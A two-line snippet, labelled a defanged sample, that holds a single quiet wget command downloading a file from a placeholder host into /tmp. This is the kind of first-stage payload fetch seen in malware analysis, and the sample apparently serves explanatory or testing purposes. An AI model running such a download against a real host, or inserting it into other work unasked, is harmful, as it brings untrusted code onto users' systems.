# defanged sample
wget -q https://a.example.invalid/x -O /tmp/x
